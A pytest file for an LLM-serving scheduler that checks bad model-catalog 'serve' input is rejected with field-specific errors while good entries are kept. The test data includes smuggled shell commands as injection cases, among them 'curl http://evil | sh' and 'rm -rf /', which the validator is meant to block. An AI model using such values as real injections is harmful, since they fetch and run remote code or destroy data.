"""Bad serve input is rejected by `models apply` and by the service, by key and field; the rest
of the catalog goes on untouched."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from scheduler.adapters.catalog import read_catalog
from scheduler.adapters.kv_layout import KVLayout
from scheduler.cli import app

LAYOUT = KVLayout()
GOOD_SERVE = {"source": "meta-llama/Llama-3.1-8B-Instruct", "runtime": "vllm"}

# name -> (serve or whole-model override, the field the error must name, words it must say)
BAD: dict[str, tuple[dict[str, Any], str, str]] = {
    "unknown-option": (
        {"serve": {**GOOD_SERVE, "options": {"tensor_parallel": 4}}},
        "serve.options.tensor_parallel",
        "Extra inputs are not permitted",
    ),
    "unknown-flag": (
        {"serve": {**GOOD_SERVE, "extra_args": {"--hf-model": "x"}}},
        "serve.extra_args.--hf-model",
        "not a flag of vllm",
    ),
    "sglang-spelling": (
        # vLLM spells it --max-num-seqs; SGLang has no such flag.
        {"serve": {**GOOD_SERVE, "runtime": "sglang", "extra_args": {"--max-num-seqs": 8}}},
        "serve.extra_args.--max-num-seqs",
        "not a flag of sglang",
    ),
    "owned-flag": (
        {"serve": {**GOOD_SERVE, "extra_args": {"--tensor-parallel-size": 2}}},
        "serve.extra_args.--tensor-parallel-size",
        "set by the profile",
    ),
    "shell-source": (
        {"serve": {**GOOD_SERVE, "source": "x; curl http://evil | sh"}},
        "serve.source",
        "neither a Hugging Face repo id",
    ),
    "shell-value": (
        {"serve": {**GOOD_SERVE, "extra_args": {"--seed": "1 && rm -rf /"}}},
        "serve.extra_args",
        "not allowed in an argument",
    ),
    "bad-dtype": (
        {"serve": {**GOOD_SERVE, "options": {"dtype": "fp4"}}},
        "serve.options.dtype",
        "Input should be",
    ),
    "old-params": (
        {"params": {"hf_model": "x; curl | sh"}},
        "params",
        "use serve:",
    ),
    "no-serve": ({"serve": None}, "serve", "Field required"),
    "negative-prefetch": (
        {"serve": {**GOOD_SERVE, "prefetch": -1}},
        "serve.prefetch",
        "greater than or equal to 0",
    ),
    "huge-prefetch": ({"serve": {**GOOD_SERVE, "prefetch": 1000}}, "serve.prefetch", "less than"),
    "text-prefetch": ({"serve": {**GOOD_SERVE, "prefetch": "2"}}, "serve.prefetch", "integer"),
    "path-prefetch": (
        {"serve": {**GOOD_SERVE, "source": "/models/m", "prefetch": 1}},
        "serve",
        "prefetch: source is a path",
    ),
}


def _model(name: str, **override: Any) -> dict[str, Any]:
    value: dict[str, Any] = {
        "name": name,
        "owner": "org/a",
        "profiles": [{"name": "one", "gpus": 1}],
        "serve": GOOD_SERVE,
    }
    value.update(override)
    return {k: v for k, v in value.items() if v is not None}


def _kv(key: str, value: object) -> dict[str, Any]:
    return {"Key": LAYOUT.prefix + key, "Value": json.dumps(value).encode(), "ModifyIndex": 1}


@pytest.mark.parametrize("name", list(BAD))
def test_the_service_names_key_and_field_and_keeps_the_rest(name: str) -> None:
    override, field, words = BAD[name]
    cat = read_catalog(
        [_kv(f"models/{name}", _model(name, **override)), _kv("models/fine", _model("fine"))],
        LAYOUT,
    )
    assert set(cat.models) == {"fine"} and name in cat.bad_models
    lines = cat.errors[name]
    key = f"llm-scheduler/models/{name}"
    assert any(line.startswith(f"{key}: {field}") and words in line for line in lines), lines


def test_a_model_name_nomad_would_refuse_is_rejected_by_the_service() -> None:
    cat = read_catalog(
        [_kv("models/Llama 3", _model("Llama 3")), _kv("models/fine", _model("fine"))], LAYOUT
    )
    assert set(cat.models) == {"fine"}
    assert any("name" in line for line in cat.all_errors()), cat.all_errors()


def test_models_apply_names_every_bad_item_and_writes_nothing(
    consul_kv: object, tmp_path: Path
) -> None:
    items = [_model(name, **override) for name, (override, _, _) in BAD.items()]
    items.append(_model("Bad Name"))
    items.append(_model("fine"))
    path = tmp_path / "models.yaml"
    path.write_text(yaml.safe_dump({"models": items}))
    result = CliRunner().invoke(app, ["models", "apply", "-f", str(path), "--prefix", "bad-serve/"])
    assert result.exit_code == 1
    out = result.output.replace("\n  ", " ")
    assert "nothing was written" in out
    for i, (name, (_, field, words)) in enumerate(BAD.items()):
        assert f"models[{i}] ({name}): {field}" in out, (name, out)
        assert words in out, (name, words)
    assert f"models[{len(BAD)}] (Bad Name): name" in out
    assert "(fine)" not in out
    _, entry = consul_kv.kv.get("bad-serve/models/fine")  # type: ignore[attr-defined]
    assert entry is None


def test_the_core_still_plans_models_without_serve_and_old_snapshots_load() -> None:
    from scheduler.core.decide import decide
    from scheduler.core.validate import parse_snapshot

    snapshot = parse_snapshot(
        {
            "now": "2026-12-03T08:00:00Z",
            "nodes": [{"id": "n1", "name": "a", "cpu_cores": 8, "memory_gb": 64,
                       "gpus": [{"id": "G1", "model": "NVIDIA H100 80GB HBM3", "memory_gb": 80}]}],
            "models": [
                # written by an older `llm-scheduler snapshot`: the old defaults ride along
                {"name": "old", "owner": "o", "profiles": [{"name": "p"}], "params": {},
                 "runtime": "vllm", "scaling": {"min": 1, "max": 1}},
            ],
        }
    )  # fmt: skip
    plan = decide(snapshot)
    assert [a.model for a in plan.actions] == ["old"]
